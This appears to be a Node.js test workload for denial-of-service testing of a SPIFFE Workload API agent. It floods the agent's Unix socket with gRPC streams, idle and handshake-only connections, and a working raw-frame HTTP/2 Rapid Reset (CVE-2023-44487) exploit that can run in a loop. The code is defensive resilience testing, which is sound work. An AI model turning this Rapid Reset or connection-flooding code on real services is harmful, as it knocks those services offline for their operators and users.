// A hostile workload for the denial-of-service tests and the "under attack" bench: run inside a
// simulated pod (or on the host), it floods the agent's socket one way and reports what came
// back as one JSON line on stdout, then holds everything open until stdin closes. Only Node
// built-ins (a gRPC call is HTTP/2 plus a 5-byte frame), so it costs one small process.
//   node hostile-workload.cjs streams CONNECTIONS STREAMS_EACH [PATH]   open streams and keep them
//   node hostile-workload.cjs idle CONNECTIONS                          connect, never send a byte
//   node hostile-workload.cjs quiet CONNECTIONS                         HTTP/2 handshake, then never a call
//   node hostile-workload.cjs reset STREAMS                             HTTP/2 Rapid Reset on one connection
//   node hostile-workload.cjs reset-loop STREAMS [SECONDS]              the same again on a new connection, until stdin closes
//                                                                       (or for SECONDS, then reports how many connections got an HTTP/2 session)
const http2 = require('node:http2');
const net = require('node:net');

const [mode, a, b, path] = process.argv.slice(2);
const socketPath = process.env.SPIFFE_ENDPOINT_SOCKET.replace(/^unix:\/\//, '');
const report = (fields) => process.stdout.write(`${JSON.stringify({ pid: process.pid, mode, ...fields })}\n`);
const held = [];
const EMPTY_MESSAGE = Buffer.from([0, 0, 0, 0, 0]);

function connect() {
  const session = http2.connect('http://localhost', { createConnection: () => net.connect(socketPath) });
  session.on('error', () => {});
  held.push(session);
  return session;
}

function open(session, callPath) {
  const headers = { ':method': 'POST', ':path': callPath, 'content-type': 'application/grpc', te: 'trailers', 'workload.spiffe.io': 'true' };
  const request = session.request(headers);
  request.on('error', () => {});
  request.end(EMPTY_MESSAGE);
  return request;
}

/** Resolves with 'message', or `<grpc-status>: <grpc-message>`, or 'reset <code>' / 'closed'. */
function firstAnswer(request) {
  return new Promise((resolve) => {
    const status = (headers) => {
      if (headers['grpc-status'] !== undefined) resolve(`${headers['grpc-status']}: ${decodeURIComponent(headers['grpc-message'] || '')}`);
    };
    request.once('data', () => resolve('message'));
    request.on('response', status);
    request.on('trailers', status);
    request.once('close', () => resolve(request.rstCode ? `reset ${request.rstCode}` : 'closed'));
  });
}

function tally(answers) {
  const counts = {};
  for (const answer of answers) counts[answer] = (counts[answer] || 0) + 1;
  return counts;
}

async function streams(connections, each, callPath) {
  const pending = [];
  for (let c = 0; c < connections; c++) {
    const session = connect();
    for (let s = 0; s < each; s++) pending.push(firstAnswer(open(session, callPath)));
  }
  report({ answers: tally(await Promise.all(pending)) });
}

async function idle(connections) {
  const closed = [];
  const outcomes = [];
  for (let c = 0; c < connections; c++) {
    const socket = net.connect(socketPath);
    socket.resume(); // read (nothing ever comes), so the agent closing it is seen
    held.push(socket);
    // Past the listen backlog a Unix socket connect fails at once (EAGAIN): not connected.
    outcomes.push(new Promise((resolve) => { socket.once('connect', () => resolve(true)); socket.once('error', () => resolve(false)); }));
    closed.push(new Promise((resolve) => socket.once('close', () => resolve(Date.now()))));
  }
  const started = Date.now();
  report({ connected: (await Promise.all(outcomes)).filter(Boolean).length });
  const times = await Promise.all(closed);
  report({ closed: times.length, afterMs: Math.max(...times) - started });
}

async function quiet(connections) {
  const started = Date.now();
  const closed = [];
  for (let c = 0; c < connections; c++) {
    const session = connect();
    closed.push(new Promise((resolve) => session.once('close', () => resolve(Date.now()))));
  }
  report({ connected: connections });
  const times = await Promise.all(closed);
  report({ closed: times.length, afterMs: Math.max(...times) - started });
}

/**
 * HTTP/2 Rapid Reset (CVE-2023-44487) in raw frames, as an attacker writes it: HEADERS then
 * RST_STREAM(CANCEL) for stream after stream, never waiting for an answer (a reset stream no
 * longer counts against the server's max concurrent streams). Reports the GOAWAY it got.
 * Resolves with whether the agent opened an HTTP/2 session at all (sent its SETTINGS).
 */
async function reset(count, reportIt = true) {
  const socket = net.connect(socketPath);
  socket.on('error', () => {});
  held.push(socket);
  await new Promise((resolve) => socket.once('connect', resolve));
  const frame = (type, flags, streamId, payload) => {
    const header = Buffer.alloc(9);
    header.writeUIntBE(payload.length, 0, 3);
    header[3] = type;
    header[4] = flags;
    header.writeUInt32BE(streamId, 5);
    return Buffer.concat([header, payload]);
  };
  const literal = (name, value) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
  const path = callPathOr('/SpiffeWorkloadAPI/FetchX509SVID');
  // HPACK: :method POST (static 3), :scheme http (static 6), then literals without indexing.
  const block = Buffer.concat([Buffer.from([0x83, 0x86]), literal(':authority', 'localhost'), literal(':path', path), literal('content-type', 'application/grpc'), literal('te', 'trailers'), literal('workload.spiffe.io', 'true')]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
  let goaway = null;
  let session = false;
  let pending = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
      const length = pending.readUIntBE(0, 3);
      const [type, flags] = [pending[3], pending[4]];
      if (type === 4 && !(flags & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ack
      if (type === 4) session = true;
      if (type === 7 && goaway === null) goaway = pending.readUInt32BE(9 + 4); // the first one says why
      pending = pending.subarray(9 + length);
    }
  });
  const closed = new Promise((resolve) => socket.once('close', resolve));
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
  let sent = 0;
  for (; sent < count && !socket.destroyed && goaway === null; sent++) {
    const id = 1 + 2 * sent;
    socket.write(Buffer.concat([frame(1, 0x4 | 0x1, id, block), frame(3, 0, id, cancel)]));
    if (sent % 20 === 19) await new Promise((resolve) => setImmediate(resolve));
  }
  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 2000))]);
  const closedByAgent = socket.destroyed || socket.readableEnded;
  socket.destroy();
  if (reportIt) report({ sent, goaway, closed: closedByAgent });
  return session;
}

function callPathOr(fallback) {
  return path || fallback;
}

async function resetLoop(count, seconds) {
  const until = seconds > 0 ? Date.now() + seconds * 1000 : Infinity;
  let [rounds, sessions] = [0, 0];
  for (; Date.now() < until; rounds++) {
    if (await reset(count, rounds === 0)) sessions++;
    held.length = 0;
  }
  report({ rounds, sessions });
}

const run = { 'reset-loop': () => resetLoop(Number(a), Number(b || 0)), streams: () => streams(Number(a), Number(b), callPathOr('/SpiffeWorkloadAPI/FetchX509SVID')), idle: () => idle(Number(a)), quiet: () => quiet(Number(a)), reset: () => reset(Number(a)) }[mode];
if (!run) {
  process.stderr.write(`unknown mode ${mode}\n`);
  process.exit(2);
}
run().catch((error) => report({ error: error.message }));
process.stdin.on('end', () => process.exit(0));
process.stdin.resume();
